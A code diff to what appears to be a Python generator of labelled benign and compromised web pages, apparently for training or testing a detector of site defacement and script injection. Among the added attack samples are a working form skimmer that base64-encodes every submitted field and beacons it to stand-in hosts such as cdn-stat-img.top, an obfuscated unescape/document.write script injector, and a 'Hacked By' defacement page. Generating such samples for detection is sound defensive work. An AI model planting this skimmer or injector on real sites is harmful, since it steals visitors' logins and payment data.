@@ -2006,6 +2006,29 @@ def b_fontawesome_kit(site, r):
     return dict(head=f'<script src="https://kit.fontawesome.com/{hexs(r, 10)}.js" crossorigin="anonymous"></script>\n'), {}, []
 
 
+def b_own_loader(site, r):
+    """The site's own inline loader: a script path built by concatenation,
+    or document.write of its own script, as old sites do."""
+    if vary([True, False]):
+        js = ("(function(){var s=document.createElement('script');s.async=true;"
+              f"s.src='/assets/js/'+'widgets'+'/'+'poll'+'.js?v='+{r.randrange(100, 999)};"
+              "document.getElementsByTagName('head')[0].appendChild(s);})();")
+    else:
+        js = "document.write('<script type=\"text/javascript\" src=\"/js/calendar-fa.js\"><\\/script>');"
+    return dict(end=f"<script{{N}}>{js}</script>\n"), {}, []
+
+
+def b_own_redirect(site, r):
+    """A redirect the site itself wants: phones to its mobile host, or a
+    browser in English to the English pages."""
+    d = reg(site.host)
+    if vary([True, False]):
+        js = f"if (/Android|iPhone|iPod|IEMobile/i.test(navigator.userAgent) && !/nomobile/.test(document.cookie)) {{ window.location.href = 'https://m.{d}' + window.location.pathname; }}"
+    else:
+        js = "if (!document.cookie.match(/lang=/) && (navigator.language || '').indexOf('en') === 0) { window.location.replace('/en/'); }"
+    return dict(head=f"<script{{N}}>{js}</script>\n"), {}, []
+
+
 def b_spa_bundle(site, r):
     return dict(bundle={"main": hexs(r, 8), "vendors": "8d21b7aa", "runtime": hexs(r, 8), "css": hexs(r, 8)}), {}, []
 
@@ -2284,6 +2307,16 @@ def a_japanese_seo(site, r):
     return dict(title=f"{kw} - {r.choice(JP_SPAM)}", main=f"<div class=\"kw\"><h2>{kw}</h2>\n{links}\n</div>\n"), {}, []
 
 
+def a_deface_image(site, r):
+    """A full defacement that is nothing but an image and a title."""
+    crew = r.choice(CREWS["en"] + CREWS["tr"] + CREWS["id"])
+    title = vary([f"Hacked By {crew}", "./0wn3d", crew, "index"])
+    html = f'''<html><head><title>{title}</title></head>
+<body bgcolor="black"><center><img src="https://i.ibb.co/{alnum(r, 7)}/{alnum(r, 6).lower()}.jpg" width="100%"></center></body></html>
+'''
+    return dict(full=html), {}, []
+
+
 def a_title(site, r):
     title = vary([f"Hacked By {r.choice(CREWS['en'])}", "Situs Slot Gacor Hari Ini Gampang Maxwin 2026",
                       "خرید فالوور ارزان اینستاگرام", "سایت شرط بندی معتبر | بونوس ویژه", f"Owned by {handle(r)}",
@@ -2401,6 +2434,21 @@ def a_obf_charcode(site, r):
     u = _url(r)
     codes = ",".join(str(ord(c)) for c in u)
     return dict(end=f'''<script{{N}}>var e=document.createElement(String.fromCharCode(115,99,114,105,112,116));e.src=String.fromCharCode({codes});document.getElementsByTagName(String.fromCharCode(104,101,97,100))[0].appendChild(e);</script>
+'''), {}, []
+
+
+def a_obf_unescape(site, r):
+    u = _url(r)
+    tag = f'<script type="text/javascript" src="{u}"></script>'
+    enc = "".join("%%%02X" % ord(c) for c in tag)
+    return dict(end=f"<script{{N}}>document.write(unescape('{enc}'));</script>\n"), {}, []
+
+
+def a_skimmer(site, r):
+    """A skimmer: the page's forms are read on submit and sent away in an
+    image beacon (nothing is loaded, the data leaves)."""
+    h = vary(["cdn-stat-img.top", "pixel-counter.xyz", "img-cache-cdn.online"])
+    return dict(end=f'''<script{{N}}>document.addEventListener("submit",function(e){{try{{var f=e.target,d=[];for(var i=0;i<f.elements.length;i++){{var x=f.elements[i];if(x.name&&x.value)d.push(x.name+"="+x.value);}}new Image().src="https://{h}/p.gif?d="+btoa(unescape(encodeURIComponent(d.join("&"))))+"&s="+location.host;}}catch(_){{}}}},true);</script>
 '''), {}, []
 
 
@@ -2666,6 +2714,8 @@ BENIGN = [
     ("social_embed", 2, [x for x in ALL if x not in SPA], b_social_embed),
     ("links_to_state_bodies", 3, [x for x in ALL if x not in SPA], b_state_links),
     ("fonts_fontawesome_kit", 2, ALL, b_fontawesome_kit),
+    ("own_inline_loader", 3, ALL, b_own_loader),
+    ("own_conditional_redirect", 3, ALL, b_own_redirect),
     ("announcement_modal", 3, [s for s in ALL if SITE[s].struct in ("laravel", "eservices", "university", "wordpress", "drupal")], b_modal),
 ]
 
@@ -2682,6 +2732,7 @@ ATTACK += [
     ("deface_partial_indonesian_block", 3, [s for s in FA if s not in SPA], a_indonesian_block),
     ("deface_partial_arabic_block", 3, [s for s in EN if s not in SPA], a_arabic_block),
     ("title_replaced", 5, ALL, a_title),
+    ("deface_full_image_only", 3, ALL, a_deface_image),
     ("deface_new_post", 2, [x for x in ALL if x not in SPA], a_new_post(True)),
     ("deface_new_post", 2, [x for x in ALL if x not in SPA], a_new_post(False)),
     ("seo_spam_japanese_keywords", 2, ALL, a_japanese_seo),
@@ -2696,6 +2747,8 @@ ATTACK += [
     ("script_obfuscated_atob", 3, ALL, a_obf_atob),
     ("script_obfuscated_charcode", 3, ALL, a_obf_charcode),
     ("script_cryptominer", 4, ALL, a_miner),
+    ("script_obfuscated_unescape", 2, ALL, a_obf_unescape),
+    ("script_skimmer_beacon", 3, FORMS, a_skimmer),
     ("script_jsdelivr_user_content", 2, JSDELIVR, a_jsdelivr_gh),
     ("script_jsdelivr_user_content", 2, ALL, a_jsdelivr_gh),
 ]
